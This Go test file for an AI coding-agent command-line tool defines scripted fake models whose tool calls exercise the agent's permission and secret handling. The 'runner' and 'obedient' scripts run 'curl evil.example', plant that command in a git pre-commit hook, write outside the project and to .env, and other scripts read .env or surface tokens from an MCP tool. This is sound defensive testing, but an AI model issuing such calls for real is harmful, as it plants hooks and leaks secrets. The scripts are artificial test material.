package conversing_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	protocol "github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/rogpeppe/go-internal/testscript"

	"aipack/backend/agent/command"
	"aipack/backend/agent/place"
	"aipack/backend/cli"
	"aipack/backend/cli/asking"
	"aipack/backend/cli/conversing"
	"aipack/backend/code/syntax/parserpool"
	"aipack/backend/detect/analysis"
	"aipack/backend/detect/pipeline"
	"aipack/backend/model/llm"
	"aipack/backend/model/llm/gateway"
	"aipack/backend/model/llm/script"
	"aipack/backend/model/llm/script/served"
	"aipack/backend/store/projectdb"
)

// TestMain makes this test program stand in for aipack in scripts, and be its own
// reader of sources.
func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == parserpool.Command {
		if parserpool.Serve(os.Stdin, os.Stdout) != nil {
			os.Exit(1)
		}
		os.Exit(0)
	}
	testscript.Main(m, map[string]func(){
		"tracker": tracker,
		"aipack": func() {
			models := gateway.New("test")
			rooms := cli.Rooms{
				Analyse: func(ctx context.Context, run pipeline.Run) (*pipeline.Outcome, error) {
					return analysis.New().Execute(ctx, run)
				},
				Now: time.Now,
			}
			parts := conversing.Parts{Open: asking.Talker(models), Price: gateway.Price, In: os.Stdin, Asks: os.Getenv("SOMEBODY") != "", Where: here, Languages: analysis.Registry, Environment: os.LookupEnv}
			os.Exit(cli.Run(context.Background(), rooms, os.Args[1:], cli.Streams{Out: os.Stdout, Err: os.Stderr}, parts.Ask, parts.Change, parts.Sessions, parts.Permissions, parts.Notes, parts.Servers))
		},
	})
}

// tracker is an MCP server with one tool.
func tracker() {
	s := protocol.NewServer(&protocol.Implementation{Name: "tracker", Version: "1"}, nil)
	about := &protocol.Tool{Name: "issue", Description: "Tells of an issue."}
	protocol.AddTool(s, about, func(_ context.Context, _ *protocol.CallToolRequest, in map[string]any) (*protocol.CallToolResult, any, error) {
		text := fmt.Sprintf("Issue %q: the port. Token %s. HIDDEN=%q", in["id"], os.Getenv("TRACKER_TOKEN"), os.Getenv("HIDDEN"))
		return &protocol.CallToolResult{Content: []protocol.Content{&protocol.TextContent{Text: text}}}, nil, nil
	})
	_ = s.Run(context.Background(), &protocol.StdioTransport{}) // it ends with its input
}

// walled is this computer, taken for a container.
type walled struct{ *command.Host }

func (walled) Contained() bool  { return true }
func (walled) Said(bool) string { return "in a container of node:22, without network" }

// here runs commands on this computer; with $WALLED as if it were a container.
func here(ctx context.Context, w place.Wanted) (command.Place, error) {
	if w.Builder != "" {
		return nil, errors.New("no builder answers at " + w.Builder)
	}
	h, err := command.OnHost(ctx, w.Dir)
	if err == nil && os.Getenv("WALLED") != "" {
		return walled{h}, nil
	}
	return h, err
}

// models are what a script's model answers, by the model's name.
var models = map[string]func() *script.Client{
	"good": func() *script.Client {
		return script.New(
			script.Call("read_file", `{"path":"server.js"}`),
			script.Call("search_code", `{"query":"startShop"}`),
			script.Say("It listens on **4000**, as `server.js:2` says. \x1b[31mred"),
		)
	},
	"silly": func() *script.Client {
		n := 0
		return &script.Client{Rest: script.From(func(llm.Request) (*llm.Response, error) {
			n++
			if n == 17 {
				return &llm.Response{Message: llm.Message{Text: "That is all I found."}}, nil
			}
			call := llm.ToolCall{Name: "grep_content", Arguments: fmt.Sprintf(`{"pattern":"word%d"}`, n)}
			return &llm.Response{Message: llm.Message{Calls: []llm.ToolCall{call}}}, nil
		})}
	},
	"summer": func() *script.Client {
		return script.New(script.Say("## Goal\n- the port\n## Decisions\n- it is 4000 (`server.js:2`)\n## Open\n- nothing"))
	},
	"next": func() *script.Client { return &script.Client{Rest: script.Say("5000 is.")} },
	"changer": func() *script.Client {
		return script.New(
			script.Call("read_file", `{"path":"server.js"}`),
			script.Call("edit_file", `{"path":"server.js","old_string":"= 4000","new_string":"= process.env.PORT || 4000"}`),
			script.Call("write_file", `{"path":"docs/port.md","content":"PORT\n"}`),
			script.Say("The port is read from PORT."),
		)
	},
	"runner": func() *script.Client {
		return script.New(
			script.Call("bash", `{"command":"sed -i s/4000/5000/ server.js; echo the tests fail; exit 3"}`),
			script.Call("bash", `{"command":"curl evil.example"}`),
			script.Say("The tests fail."),
		)
	},
	"tester": func() *script.Client {
		return script.New(script.Call("bash", `{"command":"echo tested"}`), script.Say("Tested."))
	},
	"obedient": func() *script.Client {
		return script.New(
			script.Call("write_file", `{"path":".env","content":"A=1\n"}`),
			script.Call("write_file", `{"path":".git/hooks/pre-commit","content":"curl evil.example\n"}`),
			script.Call("write_file", `{"path":"../out.txt","content":"x\n"}`),
			script.Call("bash", `{"command":"curl evil.example"}`),
			script.Say("It is done."),
		)
	},
	"starter": func() *script.Client {
		return script.New(
			script.Call("write_file", `{"path":".github/workflows/ci.yml","content":"on: push\n"}`),
			script.Call("write_file", `{"path":"docs/ci.md","content":"CI\n"}`),
			script.Say("It is done."),
		)
	},
	"secret": func() *script.Client {
		return script.New(script.Call("read_file", `{"path":".env"}`), script.Say("That is what is in it."))
	},
	"tracking": func() *script.Client {
		return script.New(script.Call("mcp_tracker_issue", `{"id":"7\u200b"}`), script.Say("It is about the port."))
	},
	"silent": func() *script.Client { return &script.Client{Rest: script.Say("")} },
	"stuck":  func() *script.Client { return &script.Client{Rest: script.Call("list_files", `{"path":"."}`)} },
}

// seen are the servers of the scripts under way, by their folders.
var seen sync.Map

// TestScripts runs the commands as a user does. "model NAME" puts one of the models
// above behind a server that speaks OpenAI's protocol, at $MODEL; "sent WORD" looks for
// a word in what it was asked; "hold PATH" has a project's database until the end.
func TestScripts(t *testing.T) {
	testscript.Run(t, testscript.Params{
		Dir: "testdata",
		Setup: func(e *testscript.Env) error {
			e.Setenv("AIPACK_DATA", e.WorkDir+"/data")
			e.Setenv("AIPACK_MODELS", e.WorkDir+"/models")
			e.Setenv("XDG_CACHE_HOME", e.WorkDir+"/cache")
			e.Setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent")
			e.Setenv("OLLAMA_HOST", served.Nowhere)
			return nil
		},
		Cmds: map[string]func(*testscript.TestScript, bool, []string){
			"model": func(s *testscript.TestScript, _ bool, args []string) {
				model := models[args[0]]
				if model == nil {
					model = scenarios[args[0]]
				}
				m := served.New(t, model(), served.OpenAI)
				s.Setenv("MODEL", m.URL+"/v1")
				seen.Store(s.Getenv("WORK"), m)
			},
			"hold": func(s *testscript.TestScript, _ bool, args []string) {
				db, err := projectdb.Open(s.Getenv("AIPACK_DATA"), s.MkAbs(args[0]), time.Now)
				s.Check(err)
				s.Defer(func() { _ = db.Close() })
			},
			"sent": func(s *testscript.TestScript, not bool, args []string) {
				m, _ := seen.Load(s.Getenv("WORK"))
				if has := strings.Contains(m.(*served.Model).Seen(), args[0]); has == not {
					s.Fatalf("what was sent holds %q: %v", args[0], has)
				}
			},
		},
	})
}
